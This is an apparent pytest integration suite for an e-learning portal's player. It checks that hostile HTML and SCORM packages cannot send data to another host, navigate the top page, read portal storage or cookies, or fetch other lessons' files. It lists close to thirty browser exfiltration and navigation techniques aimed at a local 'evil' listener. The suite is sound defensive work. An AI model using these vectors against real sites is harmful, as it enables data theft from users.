"""A hostile package gets nothing of the portal, of the student's sign-in and of other lessons, and sends nothing away.

docs/packages.md says what remains possible.
"""

import contextlib
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from tests import package_zips, playable_packages
from tests.integration.player.listener import Listener, listener
from tests.integration.player.player_page import Packaged, Played
from tests.integration.support.browser import NO_THIRD_PARTY_COOKIES, Browser, browser_of
from tests.integration.support.deployed import Deployed
from tests.integration.support.people import People, SharedUsers

if TYPE_CHECKING:
    from playwright import sync_api

pytestmark = pytest.mark.intrusive

PAGE = b"<!doctype html><html lang=en><title>Hostile</title><h1>Hostile</h1></html>"
SCRIPT = b"addEventListener('fetch', () => {})"
# What a frame in a package tells of itself: its origin, the storage, and the page around it.
TELLS = """<script>
  let storage;
  try { storage = String(localStorage.length); } catch (error) { storage = error.name; }
  let around;
  try { around = parent.parent.document.title; } catch (error) { around = error.name; }
  parent.postMessage([self.origin, storage, around], "*");
</script>"""
PACKAGES = {
    "html": package_zips.zip_of({"index.html": PAGE, "sw.js": SCRIPT, "tells.html": TELLS.encode()}),
    "html that needs storage": package_zips.zip_of(
        {"index.html": PAGE, "sw.js": SCRIPT, "tells.html": TELLS.encode()}
    ),
    "scorm": package_zips.scorm_12(files={"start.html": PAGE, "sw.js": SCRIPT, "tells.html": TELLS.encode()}),
}
# Ways to send something to `to`, an address of another host. None may arrive there.
WAYS_OUT = {
    "fetch": "fetch(to, {mode: 'no-cors'})",
    "xhr": "new Promise((done) => { const sent = new XMLHttpRequest(); sent.onloadend = done;"
    "sent.open('GET', to); sent.send(); })",
    "beacon": "navigator.sendBeacon(to, 'x')",
    "websocket": "new WebSocket(to.replace('http', 'ws'))",
    "eventsource": "new EventSource(to)",
    "image": "new Image().src = to",
    "script": "import(to)",
    "import": "add('style', {textContent: `@import url(${to})`})",
    "background": "add('style', {textContent: `body { background: url(${to}) }`})",
    "font": "new FontFace('x', `url(${to})`).load()",
    "film": "add('video', {src: to})",
    "poster": "add('video', {poster: to})",
    "object": "add('object', {data: to})",
    "frame": "add('iframe', {src: to})",
    "srcdoc": "add('iframe', {srcdoc: `<img src='${to}'>`})",
    "data": "add('iframe', {src: `data:text/html,<img src='${to}'>`})",
    "form-in-frame": "add('iframe', {name: 'f'}) && "
    "add('form', {action: to, method: 'post', target: 'f'}).submit()",
    "stylesheet": "add('link', {rel: 'stylesheet', href: to})",
    "prefetch": "add('link', {rel: 'prefetch', href: to})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: to})",
    "modulepreload": "add('link', {rel: 'modulepreload', href: to})",
    "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: to})",
    "preconnect": "add('link', {rel: 'preconnect', href: to})",
    "icon": "add('link', {rel: 'icon', href: to})",
    "speculation": "add('script', {type: 'speculationrules', textContent: JSON.stringify("
    "{prefetch: [{urls: [to], eagerness: 'immediate'}]})})",
    "ping": "add('a', {href: '#x', ping: to}).click()",
    "download": "add('a', {href: to, download: 'x'}).click()",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))",
}
# What reaches the other host from a page without a policy: else the listener would prove nothing. All ways at
# once are more than a browser sends to one host in time.
HEARD = ("fetch", "xhr", "beacon", "image", "script", "frame")
# Ways that leave the page. Each is tried alone.
MOVES = {
    "top": "top.location = to",
    "top-link": "add('a', {href: to, target: '_top'}).click()",
    "own": "location = to",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${to}`})",
    "form": "add('form', {action: to, method: 'post'}).submit()",
}
# Only pages in an origin of their own are kept from these: SCORM packages may open windows.
WINDOWS = {
    "window": "open(to)",
    "window-link": "add('a', {href: to, target: '_blank'}).click()",
}
TRY = """async ([evil, ways]) => {
  const add = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
  const outcomes = {};
  for (const [name, way] of Object.entries(ways)) {
    const to = `${evil}/${name}`;
    try { eval(way)?.catch?.(() => {}); } catch (error) { outcomes[name] = error.name; }
  }
  return outcomes;
}"""


@dataclass(frozen=True)
class Hostile:
    """A hostile package that is open, and the host to which it would send things."""

    played: Played
    evil: Listener
    free: "sync_api.Page"

    @property
    def frame(self) -> "sync_api.Frame":
        """The package's page."""
        return self.played.player.child_frames[0]

    @property
    def is_scorm(self) -> bool:
        """Whether it may open windows."""
        return bool(self.played.content["kind"].startswith("scorm"))

    @property
    def shares_origin(self) -> bool:
        """Whether it shares the player's origin."""
        return bool(self.frame.evaluate("self.origin") != "null")

    def tries(self, script: str) -> Any:
        """What an expression gives in the package's page, or the name of the error."""
        return self.frame.evaluate(
            "async (tried) => { try { return await eval(tried); } catch (error) { return error.name; } }",
            script,
        )

    def sends(self, ways: Mapping[str, str]) -> list[str]:
        """What arrives at the other host when the package tries these ways: before what a free page sent after it."""
        from playwright.sync_api import Error

        self.evil.heard.clear()
        # A way may lead away from the page before it has returned.
        self.frame.evaluate(f"(given) => void setTimeout({TRY}, 0, given)", [self.evil.address, dict(ways)])
        # The page answers this after the ways were tried, unless one of them has led away from it.
        with contextlib.suppress(Error):
            self.frame.evaluate("new Promise((done) => setTimeout(done, 0))")
        missing = unheard(self.free, self.evil, prefix="free-")
        assert missing == [], "the other host hears nobody now"
        return sorted(line for line in self.evil.heard if "/free-" not in line)


def unheard(page: "sync_api.Page", evil: Listener, prefix: str = "") -> list[str]:
    """Send from a page without a policy, and wait up to half a minute; returns the ways that were not heard."""
    sent = {prefix + name: way for name, way in WAYS_OUT.items() if name in HEARD}
    page.evaluate(TRY, [evil.address, sent])
    for _ in range(300):
        missing = sent.keys() - {line.split()[1].lstrip("/") for line in evil.heard}
        if not missing:
            break
        page.wait_for_timeout(100)
    return sorted(missing)


@pytest.fixture(scope="module")
def chromium(deployed: Deployed) -> Iterator[Browser]:
    """A browser that blocks third-party cookies."""
    with browser_of(deployed, NO_THIRD_PARTY_COOKIES) as running:
        yield running


@pytest.fixture(scope="module")
def packages(deployed: Deployed, users: SharedUsers, people: People) -> dict[str, Packaged]:
    """The hostile packages, and a harmless one that they would like to read."""
    student = people.new()
    made = {**PACKAGES, "other": playable_packages.html_package()}
    return {
        name: Packaged.of(deployed, users.owner, student, each, needs_storage="storage" in name)
        for name, each in made.items()
    }


@pytest.fixture(scope="module")
def free_page(chromium: Browser) -> Iterator["sync_api.Page"]:
    """A page without a policy."""
    page = chromium.page("http://localhost:3998/", PAGE.decode())
    yield page
    page.context.close()


@pytest.fixture(params=PACKAGES)
def hostile(
    request: pytest.FixtureRequest,
    packages: dict[str, Packaged],
    chromium: Browser,
    free_page: "sync_api.Page",
) -> Iterator[Hostile]:
    """Each hostile package, opened."""
    with listener() as evil:
        played = packages[request.param].play(chromium, saves=False)
        played.frame()
        yield Hostile(played, evil, free_page)
        played.page.context.close()


def test_the_other_host_hears_what_a_page_without_a_policy_sends(free_page: "sync_api.Page") -> None:
    """The proof that the next test would see it."""
    with listener() as evil:
        assert unheard(free_page, evil) == []


def test_nothing_is_sent_to_another_host(hostile: Hostile) -> None:
    assert hostile.sends(WAYS_OUT) == []


@pytest.mark.parametrize("move", MOVES)
def test_no_page_of_another_host_is_opened(hostile: Hostile, move: str) -> None:
    before = hostile.played.page.url
    assert hostile.sends({move: MOVES[move]}) == []
    assert hostile.played.page.url == before


def test_only_scorm_packages_open_windows(hostile: Hostile) -> None:
    """Old SCORM packages run in a window of their own. docs/packages.md names what that leaves possible."""
    is_scorm = hostile.is_scorm
    assert bool(hostile.sends(WINDOWS)) is is_scorm
    assert (len(hostile.played.page.context.pages) > 1) is is_scorm


def test_nothing_of_the_portal_can_be_read(hostile: Hostile) -> None:
    portal = {
        name: hostile.tries(script)
        for name, script in {
            "document": "top.document.title",
            "address": "top.location.href",
            "storage": "top.localStorage.length",
            "session": "top.sessionStorage.length",
            "variable": "top.seen",
        }.items()
    }
    assert set(portal.values()) == {"SecurityError"}


def test_html_packages_have_no_storage_and_do_not_see_the_player(hostile: Hostile) -> None:
    tried = {
        name: hostile.tries(script)
        for name, script in {
            "player": "parent.document.title",
            "storage": "localStorage.length",
            "session": "sessionStorage.length",
            "cookie": "document.cookie",
            "database": "String(indexedDB.open('x'))",
            "caches": "caches.keys()",
        }.items()
    }
    if hostile.shares_origin:
        assert tried["player"] == "Player"
        assert tried["cookie"] == ""
    else:
        assert set(tried.values()) == {"SecurityError"}


def test_no_service_worker_is_registered(hostile: Hostile) -> None:
    """Not in the package's folder, and not by a page that a window shows outside of the player."""
    assert hostile.tries("navigator.serviceWorker.register('sw.js')") in ("SecurityError", "TypeError")


def test_the_api_is_not_called(hostile: Hostile, deployed: Deployed) -> None:
    """Neither as the student nor as nobody: the content's policy names no other host."""
    api = deployed.outputs["api_endpoint"]
    assert hostile.tries(f"fetch('{api}/courses', {{credentials: 'include'}})") == "TypeError"
    assert hostile.tries(f"navigator.sendBeacon('{api}/courses', 'x') && 'sent'") in ("sent", False)


def test_files_of_other_lessons_are_refused(hostile: Hostile, packages: dict[str, Packaged]) -> None:
    """With the own token, and at the stored path. A page in an origin of its own does not even see the 403."""
    other = packages["other"]
    theirs = other.student.get(f"{other.path}/content")["url"].split("/p/")[1].split("/", 1)[1]
    own = hostile.frame.url.split("/p/")[1].split("/")[0]
    for address in (f"/p/{own}/{theirs}", f"/packages/{theirs}"):
        tried = f"fetch(new URL('{address}', location.href)).then((answer) => answer.status)"
        assert hostile.tries(tried) == (403 if hostile.shares_origin else "TypeError")


# Makes a frame in the package's page, and waits for what it tells.
NESTED = """async (made) => {
  const frame = Object.assign(document.createElement("iframe"), made);
  const told = new Promise((done) => addEventListener("message", (event) => {
    if (event.source === frame.contentWindow) done(event.data);
  }));
  document.body.append(frame);
  return Promise.race([told, new Promise((done) => setTimeout(done, 3000, "nothing"))]);
}"""


@pytest.mark.parametrize("way", ["srcdoc", "data", "blob", "allowed more", "player's page"])
@pytest.mark.parametrize("hostile", ["html"], indirect=True)
def test_a_frame_in_a_package_can_do_no_more_than_the_package(hostile: Hostile, way: str) -> None:
    """Whatever it loads, and whatever its own `sandbox` allows: also a page of the player that has the origin."""
    text, page = json.dumps(TELLS), json.dumps(f"data:text/html,{TELLS}")
    blob = f"URL.createObjectURL(new Blob([{text}], {{type: 'text/html'}}))"
    made = {
        "srcdoc": f"({{srcdoc: {text}}})",
        "data": f"({{src: {page}}})",
        "blob": f"({{src: {blob}}})",
        "allowed more": f"({{sandbox: 'allow-scripts allow-same-origin allow-top-navigation', srcdoc: {text}}})",
        "player's page": "({src: new URL('/player/h5p-storage.html', location.href).href})",
    }[way]
    told = hostile.frame.evaluate(f"() => ({NESTED})({made})")
    if way == "player's page":
        nested = hostile.frame.child_frames[-1]
        assert nested.evaluate("self.origin") == "null"
        return
    assert told == ["null", "SecurityError", "SecurityError"]


@pytest.mark.parametrize("hostile", ["html", "html that needs storage"], indirect=True)
def test_a_page_of_the_package_is_shown_in_no_frame_of_an_opaque_package(hostile: Hostile) -> None:
    """`frame-ancestors` cannot name an origin like that. docs/packages.md tells what to do."""
    told = hostile.frame.evaluate(f"() => ({NESTED})({{src: new URL('tells.html', location.href).href}})")
    assert (told == "nothing") is not hostile.shares_origin


def test_a_click_does_not_lead_the_portal_to_another_page(hostile: Hostile) -> None:
    """Browsers allow more to a page that was clicked on."""
    before = hostile.played.page.url
    to = f"{hostile.evil.address}/clicked"
    hostile.frame.evaluate(
        """(to) => {
          const link = document.createElement("a");
          Object.assign(link, {href: to, target: "_top", textContent: "Click"});
          const button = document.createElement("button");
          button.textContent = "Lead";
          button.onclick = () => { try { top.location = to; } catch { button.textContent = "Refused"; } };
          document.body.append(link, button);
        }""",
        to,
    )
    hostile.frame.get_by_text("Click").click()
    hostile.frame.get_by_role("button").click()
    assert unheard(hostile.free, hostile.evil, prefix="free-") == []
    assert [line for line in hostile.evil.heard if "/free-" not in line] == []
    assert hostile.played.page.url == before
